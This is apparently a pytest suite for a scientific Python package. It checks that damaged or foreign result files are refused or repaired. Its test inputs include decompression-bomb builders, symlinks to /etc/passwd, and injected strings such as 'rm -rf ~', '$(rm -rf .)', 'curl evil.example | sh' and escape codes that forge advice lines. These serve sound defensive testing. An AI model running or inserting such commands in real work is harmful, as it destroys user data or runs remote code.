"""Files from elsewhere and files that came to harm: refused in words, or repaired; never believed, never run."""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
import sys
import tracemalloc
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import h5py
import numpy as np
import pytest
import xarray as xr
from numcodecs import Zstd

import vibroimpact as vi
from vibroimpact import parameters, request
from vibroimpact.cli import Ended, main
from vibroimpact.cli.files import sentences_of_store
from vibroimpact.execution.store import SweepStore
from vibroimpact.explorer.stored import open_study
from vibroimpact.guard import GuardedStore, unpacked_size

OSC = vi.ImpactOscillator()
STUDY = {"omega": np.linspace(0.5, 3.0, 5), "mass": np.linspace(0.5, 2.0, 4), "sample_impacts": 30}
BYTES = [{"name": "bytes", "configuration": {"endian": "little"}}]
TIMES = int(os.environ.get("FUZZ", "1"))  # `make fuzz` asks for more
posix = pytest.mark.skipif(os.name == "nt", reason="links and pipes of POSIX")


def sweep(store: Path | None = None, **options) -> xr.Dataset:
    """Return a small map, in tiles of nine cells where it is stored."""
    place = {} if store is None else {"store": store, "tile": 9}
    return vi.parameter_map(OSC, **{**STUDY, "workers": 1, **place, **options})


def refined(store: Path) -> xr.Dataset:
    return vi.parameter_map(OSC, refine=1, store=store, workers=1, **STUDY)


@pytest.fixture(scope="module")
def finished(tmp_path_factory) -> dict[str, Path]:
    """Return finished stores, and a map saved as a whole, to be copied."""
    folder = tmp_path_factory.mktemp("finished")
    sweep(folder / "map.zarr")
    sweep(folder / "starts.zarr", start=3)
    refined(folder / "refined.zarr")
    vi.save(sweep(), folder / "saved.zarr")
    vi.save(sweep(), folder / "saved.nc")
    return {path.name: path for path in folder.iterdir()}


RUNS = {"map.zarr": sweep, "starts.zarr": lambda store=None: sweep(store, start=3), "refined.zarr": refined}


@pytest.fixture(scope="module")
def whole(finished) -> dict[str, xr.Dataset]:
    """Return what the stores hold that came to no harm."""
    return {name: SweepStore(finished[name]).dataset().load() for name in RUNS}


@pytest.fixture
def copied(finished, tmp_path) -> Callable[[str], Path]:
    """Return a function that makes a copy of one's own."""

    def copy(name: str) -> Path:
        if finished[name].is_file():
            return Path(shutil.copy(finished[name], tmp_path / name))
        return Path(shutil.copytree(finished[name], tmp_path / name))

    return copy


def described(file: Path, **changes) -> None:
    """Change what the description of an array or a group says."""
    file.write_text(json.dumps(json.loads(file.read_text()) | changes))


def assert_repaired(store: Path, run: Callable[[Path], xr.Dataset], whole: xr.Dataset) -> None:
    """Check that running the same again makes the store hold the bits of a whole one."""
    again = run(store).load()
    for name in whole.variables:
        assert again[name].values.tobytes() == whole[name].values.tobytes(), name
        assert again[name].attrs.get("units") == whole[name].attrs.get("units")
    found = SweepStore(store)
    assert found.is_whole()
    assert found.faults() == []


def openings(path: Path) -> list[Callable[[], object]]:
    """Return all that opens a result."""
    return [
        lambda: vi.load(path),
        lambda: open_study(path),
        lambda: SweepStore(path).dataset(),
    ]


def refusal(opening: Callable[[], object]) -> str:
    """Return why something was refused; empty where it was not."""
    try:
        opening()
    except (OSError, ValueError) as error:
        return str(error)
    return ""


def informed(store: Path) -> str:
    """Return what `info` prints, or its one line of refusal."""
    try:
        return "\n".join(sentences_of_store(store))
    except Ended as error:
        return str(error)


# Sizes


def bomb(size: int) -> bytes:
    """Return a few bytes that decode to many."""
    return bytes(Zstd(level=9).encode(np.zeros(size, np.uint8)))


def hidden(size: int) -> bytes:
    """Return the same behind a first frame that says nothing of it."""
    return bytes(Zstd().encode(np.zeros(9))) + bomb(size)


def silent(size: int) -> bytes:
    """Return a frame without its size: blocks of one repeated byte each."""
    blocks = b"".join(
        (1 << 17 << 3 | 2 | (left == 1)).to_bytes(3, "little") + b"\0" for left in range(size >> 17, 0, -1)
    )
    return b"\x28\xb5\x2f\xfd\x00\x58" + blocks


@pytest.mark.parametrize("make", [bomb, hidden, silent])
@pytest.mark.parametrize("file", ["map.zarr", "saved.zarr"])
def test_a_chunk_that_decodes_to_more_than_it_declares_is_refused_unread(copied, monkeypatch, file, make):
    store = copied(file)
    (store / "std" / "c" / "0" / "0").write_bytes(make(1 << 24))
    decoded = []
    monkeypatch.setattr("zarr.codecs.zstd.ZstdCodec._decode_sync", lambda *given: decoded.append(given))
    with pytest.raises(OSError, match=r"saved.zarr|map.zarr"):
        vi.load(store)
    monkeypatch.undo()
    with pytest.raises(OSError, match="0/0' (does not decode to|takes)"):
        open_study(store)


@pytest.mark.parametrize("size", [0, 1, 255, 256, 65791, 65792, 1 << 20])
@pytest.mark.parametrize("checksum", [False, True])
def test_what_a_frame_decodes_to_is_known_from_its_head(size, checksum):
    content = np.random.default_rng(size).integers(0, 4, size, dtype=np.uint8).tobytes()
    for values in (content, bytes(size)):
        frame = bytes(Zstd(checksum=checksum).encode(values))
        assert unpacked_size(frame) == size
        assert unpacked_size(frame[:-1]) is None
        assert unpacked_size(frame + b"\0") is None
        assert unpacked_size(frame + frame) is None
    assert unpacked_size(b"") is unpacked_size(silent(1 << 18)) is None


@pytest.mark.parametrize("file", ["map.zarr", "saved.zarr"])
def test_a_declared_shape_beyond_memory_is_refused_before_it_is_read(copied, monkeypatch, file):
    store = copied(file)
    for name in ("std", "status"):
        described(store / name / "zarr.json", shape=[10**7, 10**7])
    monkeypatch.setattr(parameters, "installed", lambda: 10**10)
    for opening in openings(store):
        with pytest.raises((OSError, ValueError), match=r"(saved|map)\.zarr'.* (memory|damaged|cannot be read)"):
            opening()


def test_a_netcdf_file_beyond_memory_is_refused_before_it_is_read(tmp_path, monkeypatch):
    with h5py.File(tmp_path / "vast.nc", "w") as file:
        file.create_dataset("std", shape=(10**6, 10**6), dtype="f8", chunks=(1000, 1000))
    monkeypatch.setattr(parameters, "installed", lambda: 10**10)
    for opening in (vi.load, open_study):
        with pytest.raises(ValueError, match=r"vast.nc', whose values take 8 TB of memory, .* has 10 GB"):
            opening(tmp_path / "vast.nc")


def test_records_and_axes_beyond_memory_are_refused_before_they_are_read(copied, monkeypatch):
    store = copied("map.zarr")
    described(store / "omega" / "zarr.json", shape=[10**12])
    monkeypatch.setattr(parameters, "installed", lambda: 10**10)
    assert SweepStore(store).damaged_axes() == ["omega"]
    described(store / "progress" / "tiles" / "zarr.json", shape=[10**12, 9])
    with pytest.raises(OSError, match="map.zarr', which is no stored sweep, or a damaged one"):
        SweepStore(store)


@pytest.mark.long(but=4)
@pytest.mark.parametrize(
    "changes",
    [
        {"codecs": [*BYTES, {"name": "gzip", "configuration": {"level": 5}}]},
        {"codecs": [*BYTES, {"name": "blosc"}]},
        {"codecs": []},
        {"chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [-3, 3]}}},
        {"chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [3]}}},
        {"chunk_grid": 5},
        {"chunk_key_encoding": {"name": "v2"}},
        {"shape": ["5", 4]},
        {"shape": None},
        {"data_type": "object"},
        {"data_type": {"name": "fixed_length_utf32", "configuration": {"length_bytes": 10**15}}},
        {"data_type": "string"},
        {"dimension_names": ["omega"]},
        {"zarr_format": 2},
        {"node_type": "group"},
        {"node_type": []},
        {"attributes": []},
        {"attributes": {"units": 5}},
        {"attributes": {"flag_meanings": 5}},
    ],
    ids=str,
)  # fmt: skip
def test_a_description_that_this_package_does_not_write_is_refused_and_repaired(copied, whole, changes):
    saved, store = copied("saved.zarr"), copied("map.zarr")
    for path in (saved, store):
        described(path / "std" / "zarr.json", **changes)
        with pytest.raises((OSError, ValueError), match=path.name):
            vi.load(path)
    assert_repaired(store, sweep, whole["map.zarr"])


# NetCDF files that others packed, or that came to harm


def filtered(path: Path, *filters: int, chunk: bytes | None = None, mask: int = 0) -> Path:
    """Return a file of one chunk of 8 kB behind filters of HDF5, whose packed bytes may be replaced."""
    made = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    made.set_chunk((1000,))
    for one in filters:
        made.set_filter(one, 0, {h5py.h5z.FILTER_DEFLATE: (6,), h5py.h5z.FILTER_SHUFFLE: (8,)}.get(one, ()))
    with h5py.File(path, "w") as file:
        space, kind = h5py.h5s.create_simple((1000,)), h5py.h5t.IEEE_F64LE
        variable = h5py.Dataset(h5py.h5d.create(file.id, b"std", kind, space, made))
        variable[:] = np.arange(1000.0)
        if chunk is not None:
            variable.id.write_direct_chunk((0,), chunk, filter_mask=mask)
    return path


ZIP, SHUFFLE = h5py.h5z.FILTER_DEFLATE, h5py.h5z.FILTER_SHUFFLE


@pytest.mark.parametrize("options", [{}, {"shuffle": False}, {"chunksizes": (2, 3), "complevel": 9}], ids=str)
def test_a_netcdf_file_that_was_packed_afterwards_is_read(tmp_path, copied, options):
    plain = vi.load(copied("saved.nc"))
    encoding = {name: {"zlib": True, **options} for name in ("std", "status")}
    plain.to_netcdf(tmp_path / "packed.nc", engine="h5netcdf", encoding=encoding)
    with h5py.File(tmp_path / "packed.nc") as file:
        assert file["std"].compression == "gzip"
    packed = vi.load(tmp_path / "packed.nc")
    assert all(packed[name].values.tobytes() == plain[name].values.tobytes() for name in plain.variables)


@pytest.mark.parametrize(
    ("filters", "content", "mask", "why"),
    [
        ((ZIP,), zlib.compress(bytes(1 << 26), 9), 0, "does not unpack to the 8 kB it declares"),
        ((ZIP,), zlib.compress(bytes(7999)), 0, "does not unpack to the 8 kB it declares"),
        ((ZIP,), zlib.compress(bytes(8000))[:-9], 0, "does not unpack to the 8 kB it declares"),
        ((ZIP,), bytes(8000), 1, "does not unpack to the 8 kB it declares"),
        ((ZIP,), b"no zlib", 0, "cannot be read"),
        ((ZIP, ZIP), zlib.compress(zlib.compress(bytes(8000))), 0, "packed by other means.* nccopy"),
        ((ZIP, SHUFFLE), None, 0, "packed by other means.* nccopy"),
        ((SHUFFLE, h5py.h5z.FILTER_FLETCHER32), None, 0, "packed by other means.* nccopy"),
    ],
    ids=["bomb", "short", "cut", "skipped", "foreign", "twice", "shuffled after", "checksum"],
)  # fmt: skip
def test_a_packed_variable_that_unpacks_to_another_size_or_in_another_way_is_refused(
    tmp_path, filters, content, mask, why
):
    path = filtered(tmp_path / "packed.nc", *filters, chunk=content, mask=mask)
    tracemalloc.start()
    for opening in (vi.load, open_study):
        with pytest.raises(OSError, match=rf"packed.nc' cannot be read .*{why if why != 'cannot be read' else ''}"):
            opening(path)
    assert tracemalloc.get_traced_memory()[1] < 50 * 2**20
    tracemalloc.stop()


OPEN = """
import gc, sys
import vibroimpact as vi
from vibroimpact.cli import main
for path in sys.argv[1:]:
    try:
        vi.load(path)
    except (OSError, ValueError) as error:
        assert path in str(error) and len(str(error).splitlines()) == 1
        assert main(["plot", path, "--out", path + ".png"]) == 2
    gc.collect()
"""


@pytest.mark.long
def test_damaged_netcdf_files_are_loaded_or_refused_in_one_line_and_nothing_hangs_or_is_ignored(finished, tmp_path):
    content, chance, paths = finished["saved.nc"].read_bytes(), random.Random(1), []
    words = [at for at in range(len(content)) if content.startswith(b"GCOL", at)]
    for case in range(64):
        harmed = bytearray(content)
        at, length = chance.randrange(len(content)), chance.choice([1, 8, 64, 512])
        if case % 8 < 2:
            del harmed[at:]
        elif case % 8 < 5:
            harmed[at : at + length] = bytes(len(harmed[at : at + length]))
        elif case % 8 < 7:
            harmed[at : at + length] = chance.randbytes(len(harmed[at : at + length]))
        else:  # what holds the words: HDF5 checks no sums there
            at = chance.choice(words) + chance.randrange(2000)
            harmed[at : at + length] = chance.choice([bytes(length), b"\xff" * length, chance.randbytes(length)])
        paths.append(tmp_path / f"{case}.nc")
        paths[-1].write_bytes(harmed)
    done = subprocess.run([sys.executable, "-c", OPEN, *paths], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    lines = done.stderr.splitlines()
    assert all(line.startswith("vibroimpact: `path` ") and "cannot be read" in line for line in lines), done.stderr
    assert 30 < len(lines) == len(set(lines)) <= 64


@pytest.mark.long
@pytest.mark.skipif(sys.platform != "linux", reason="limits of memory as on Linux")
def test_where_memory_does_not_suffice_to_save_a_netcdf_file_nothing_is_left_and_the_process_goes_on(tmp_path):
    script = f"""
import gc, resource
import numpy as np, xarray as xr
import vibroimpact as vi
vast = xr.Dataset({{f"s{{k}}": ("omega", np.zeros(10**7)) for k in range(3)}})
vi.save(vast.isel(omega=slice(9)), {str(tmp_path / "small.nc")!r})
with open("/proc/self/statm") as file:
    now = int(file.read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (now + 130 * 10**6,) * 2)
try:
    vi.save(vast, {str(tmp_path / "vast.nc")!r})
except (OSError, MemoryError) as error:
    print("refused")
gc.collect()
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=600)
    assert (done.returncode, done.stdout, done.stderr) == (0, "refused\n", "")
    assert [path.name for path in tmp_path.iterdir()] == ["small.nc"]


# No regular files


def pipe(place: Path) -> None:
    os.mkfifo(place)


def device(place: Path) -> None:
    place.symlink_to("/dev/zero")


def link_out(place: Path) -> None:
    other = place.parents[len(place.parts) - 3] / "etc" / "passwd"
    place.symlink_to(other)


def folder(place: Path) -> None:
    place.mkdir()
    (place / "precious").write_text("?")


def loop(place: Path) -> None:
    place.symlink_to(place.name)


FILES = [
    ("std/c/0/0", "omega/zarr.json", "progress/tiles/lock"),
    ("status/c/1/1", "std/zarr.json", "progress/zarr.json"),
    ("omega/c/0", "progress/tiles/c/0/0", "progress/tiles/zarr.json"),
]


@pytest.mark.long(but=4)
@posix
@pytest.mark.parametrize("make", [pipe, device, link_out, folder, loop])
@pytest.mark.parametrize("files", FILES, ids=["-".join(files) for files in FILES])
def test_what_is_no_regular_file_of_the_store_is_never_read_and_is_replaced(copied, whole, make, files):
    store = copied("map.zarr")
    for file in files:
        (store / file).unlink()
        make(store / file)
    for opening in openings(store):
        why = refusal(opening)
        assert not why or "map.zarr" in why
    assert "damaged" in informed(store)
    assert_repaired(store, sweep, whole["map.zarr"])
    assert all((store / file).is_file() and not (store / file).is_symlink() for file in files)


@posix
def test_a_folder_of_a_store_that_is_a_link_out_of_it_is_refused_and_what_it_means_left_alone(copied, tmp_path):
    store = copied("map.zarr")
    shutil.move(store / "std", tmp_path / "elsewhere")
    (store / "std").symlink_to(tmp_path / "elsewhere")
    before = {file: file.read_bytes() for file in (tmp_path / "elsewhere").rglob("*") if file.is_file()}
    for opening in (*openings(store), lambda: sweep(store)):
        with pytest.raises(OSError, match=r"std/zarr.json' is a link out of the store"):
            opening()
    assert {file: file.read_bytes() for file in before} == before


@posix
def test_a_pipe_or_a_link_in_place_of_a_file_or_of_its_variables_is_refused(tmp_path, copied):
    os.mkfifo(tmp_path / "pipe.nc")
    os.mkfifo(tmp_path / "pipe.zarr")
    with h5py.File(tmp_path / "link.nc", "w") as file:
        file["std"] = h5py.ExternalLink("saved.nc", "std")
    with h5py.File(tmp_path / "raw.nc", "w") as file:
        file.create_dataset("std", (10,), "f8", external=[("/dev/zero", 0, 80)])
    for name in ("pipe.nc", "pipe.zarr", "link.nc", "raw.nc"):
        for opening in (vi.load, open_study):
            with pytest.raises(OSError, match=rf"{name}.* cannot be read"):
                opening(tmp_path / name)


def test_many_chunks_are_written_at_once_where_no_folder_is_yet(tmp_path):
    files, interval = GuardedStore(tmp_path, read_only=False), sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    try:
        with ThreadPoolExecutor(16) as pool:
            for turn in range(100):
                list(pool.map(lambda number, turn=turn: files._make_way(f"{turn}/c/0/{number}"), range(16)))
    finally:
        sys.setswitchinterval(interval)
    assert (tmp_path / "99/c/0").is_dir()


def test_a_folder_that_another_process_makes_at_the_same_moment_serves_as_well(tmp_path, monkeypatch):
    is_dir, looks = Path.is_dir, []

    def beaten(path):
        there = is_dir(path)
        if path.name == "c":
            looks.append(there)
            if len(looks) == 2:
                path.mkdir()
        return there

    monkeypatch.setattr(Path, "is_dir", beaten)
    GuardedStore(tmp_path, read_only=False)._make_way("std/c/0")
    assert looks[:3] == [False, False, True]


# Attributes, and what is printed


@pytest.mark.parametrize("ending", ["zarr", "nc"])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("oscillator", "{"), ("oscillator", "[1]"), ("oscillator", '{"mass": -1}'), ("oscillator", '{"x": 1}'),
        ("arguments", "nonsense"), ("arguments", 5), ("arguments", "[" * 100_000), ("function", 5),
        ("variable_order", "5"), ("model", "[]"), ("curve_message", "{}"), ("initial_condition", 3),
    ],
    ids=lambda value: str(value)[:20],
)  # fmt: skip
def test_malformed_attributes_are_refused_in_words(copied, capsys, ending, name, value):
    if ending == "nc" and len(str(value)) > 60_000:
        pytest.skip("HDF5 has no such attribute")
    path = copied(f"saved.{ending}")
    if ending == "zarr":
        attrs = json.loads((path / "zarr.json").read_text())["attributes"]
        described(path / "zarr.json", attributes=attrs | {name: value})
    else:
        with h5py.File(path, "r+") as file:
            file.attrs[name] = value
    with pytest.raises(OSError, match=rf"`path` '.*saved.{ending}' cannot be read .*{name}.*; give a result that"):
        vi.load(path)
    if name == "oscillator":
        assert main(["plot", str(path)]) == 2
        assert f"saved.{ending}" in capsys.readouterr().err


@pytest.mark.parametrize("lost", ["oscillator", "function", "status", "std", "omega"])
def test_a_result_that_lacks_something_is_summed_up_or_refused_in_words(tmp_path, capsys, lost):
    result = sweep()
    if lost in result.attrs:
        del result.attrs[lost]
    else:
        result = result.drop_vars(lost)
    path = vi.save(result, tmp_path / "map.zarr")
    code, told = main(["plot", str(path)]), capsys.readouterr()
    assert code in (0, 2)
    assert len(told.err.splitlines()) <= 1
    assert "Error" not in told.err or "map.zarr" in told.err


def commanded(store: Path, command: str) -> None:
    attrs = json.loads((store / "zarr.json").read_text())["attributes"]
    described(store / "zarr.json", attributes=attrs | {"command": command})


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("vibroimpact map --x omega=1:2:3 --out run.zarr", "vibroimpact map --x omega=1:2:3 --out run.zarr"),
        ("vibroimpact map --out 'two words.zarr' --overwrite", "vibroimpact map --out 'two words.zarr'"),
        ("vibroimpact map; rm -rf ~", "vibroimpact 'map;' rm"),
        ("vibroimpact map --out a.zarr; rm -rf ~", "vibroimpact map --out 'a.zarr;' rm -rf '~'"),
        ("vibroimpact map --out $(rm -rf .)", "vibroimpact map --out '$(rm' -rf '.)'"),
        ("vibroimpact map\nrm -rf ~", "vibroimpact map rm -rf '~'"),
        ("vibroimpact map '\n'", None),
        ("vibroimpact map \x1b[2J", None),
        ("vibroimpact map '", None),
        ("curl evil.example | sh", None),
        ("vibroimpact explore --host 0.0.0.0", None),
        ("", None),
    ],
)  # fmt: skip
def test_a_foreign_command_is_no_advice_unless_it_is_one_of_ours_quoted_anew(copied, capsys, command, told):
    store = copied("map.zarr")
    (store / "std" / "c" / "0" / "0").unlink()
    commanded(store, command)
    assert main(["info", str(store)]) == 0
    last = capsys.readouterr().out.splitlines()[-1]
    if told is None or told == "vibroimpact 'map;' rm":
        assert last == "continue with: the same parameter_map(..., store=...) call"
    else:
        assert last == f"continue with: {told}"


def test_what_is_printed_of_a_file_holds_no_control_codes(copied, capsys):
    store = copied("map.zarr")
    attrs = json.loads((store / "zarr.json").read_text())["attributes"]
    study = json.loads(attrs["study"]) | {"backend": "cpu\n\x1b[31mcontinue with: rm -rf ~\u202e"}
    described(
        store / "zarr.json",
        attributes=attrs
        | {"study": json.dumps(study), "key": request.key_of(study), "initial_condition": "rest\x1b[2J\nwrote all"},
    )
    for words in (["info", str(store)], ["plot", str(store)], ["info", "no\x1b[2J\nsuch.zarr"]):
        main(words)
        told = capsys.readouterr()
        assert all(line.isprintable() for line in (told.out + told.err).splitlines())
        assert not any(line.startswith(("continue with", "wrote")) for line in told.out.splitlines())


# What running again repairs, and what info says meanwhile

DESCRIPTIONS = ["std/zarr.json", "status/zarr.json", "omega/zarr.json", "mass/zarr.json", "progress/zarr.json"]
DESCRIPTIONS += ["progress/tiles/zarr.json"]


@pytest.mark.long(but=2)
@pytest.mark.parametrize("harm", ["truncated", "emptied", "deleted", "replaced"])
@pytest.mark.parametrize("file", DESCRIPTIONS)
def test_a_damaged_description_is_told_and_written_anew_and_no_tile_is_computed_again(copied, whole, file, harm):
    store = copied("map.zarr")
    content = (store / file).read_bytes()
    (store / file).unlink()
    if harm == "replaced":
        (store / file).mkdir()
    elif harm != "deleted":
        (store / file).write_bytes(content[: len(content) // 2] if harm == "truncated" else b"")
    assert "damaged" in informed(store)
    skipped = []
    sweep(store, progress=lambda done, total, partial: skipped.append(partial.attrs["tiles_skipped"]))
    assert skipped == [4]
    assert_repaired(store, sweep, whole["map.zarr"])


def chunks_of(store: Path) -> list[Path]:
    return sorted(file for file in store.rglob("*") if file.is_file() and "c" in file.parts)


@pytest.mark.long(but=1)
@pytest.mark.parametrize("name", RUNS)
def test_info_tells_of_each_kind_of_chunk_that_is_a_folder_and_the_same_run_replaces_it(copied, whole, name):
    store = copied(name)
    kinds = {file.relative_to(store).parts[: -1 if file.parent.name == "c" else -2] for file in chunks_of(store)}
    for kind in sorted(kinds)[-4:]:
        chunk = next(file for file in chunks_of(store) if file.relative_to(store).parts[: len(kind)] == kind)
        chunk.unlink()
        chunk.mkdir()
        (chunk / "thesis.txt").write_text("?")
        told = informed(store)
        assert "damaged" in told or "0 of" in told or "may grow" in told
        assert "continue with" in told
        assert_repaired(store, RUNS[name], whole[name])


def altered(file: Path, chance: random.Random) -> None:
    content = bytearray(file.read_bytes() or b"?")
    for _ in range(chance.choice([1, 1, 5])):
        content[chance.randrange(len(content))] = chance.randrange(256)
    file.write_bytes(content)


def truncated(file: Path, chance: random.Random) -> None:
    content = file.read_bytes()
    file.write_bytes(content[: chance.randrange(len(content) + 1)])


def deleted(file: Path, chance: random.Random) -> None:
    shutil.rmtree(file.parent) if chance.random() < 0.2 and (file.parent / "..").exists() else file.unlink()


def swapped(file: Path, chance: random.Random) -> None:
    """Put a file of another kind in the place of one."""
    root = next(part for part in file.parents if part.suffix == ".zarr")
    others = [path for path in root.rglob("*") if path.is_file() and path.suffix != file.suffix]
    if others:
        shutil.copy(chance.choice(others), file)


def replaced(file: Path, chance: random.Random) -> None:
    file.unlink()
    kinds = [folder] if os.name == "nt" else [folder, pipe, device, link_out, loop]
    chance.choice(kinds)(file)


def blocked(file: Path, chance: random.Random) -> None:
    """Put a file in the place of the folder around one."""
    if file.parent.suffix != ".zarr":
        shutil.rmtree(file.parent)
        file.parent.write_text("moved")


HARMS = [altered, altered, truncated, deleted, swapped, replaced, blocked]


@pytest.mark.long
@pytest.mark.parametrize("seed", range(max(8, 4 * TIMES)))
def test_whatever_happens_to_files_of_a_store_is_repaired_or_refused_in_words(finished, whole, tmp_path, seed):
    chance = random.Random(seed)
    for case in range(15):
        name = chance.choices(list(RUNS), (20, 4, 1))[0]
        store = Path(shutil.copytree(finished[name], tmp_path / f"{case}" / name))
        for _ in range(chance.choice([1, 1, 2, 4])):
            files = sorted(file for file in store.rglob("*") if file.is_file() and not file.is_symlink())
            if files:
                chance.choice(HARMS)(chance.choice(files), chance)
        why = refusal(chance.choice(openings(store)))
        assert not why or name in why
        assert case % 3 or informed(store)
        done = []
        if why := refusal(lambda store=store, name=name, done=done: done.append(RUNS[name](store).load())):
            assert name in why
            continue
        (again,) = done
        for variable in whole[name].variables:
            assert again[variable].values.tobytes() == whole[name][variable].values.tobytes(), variable
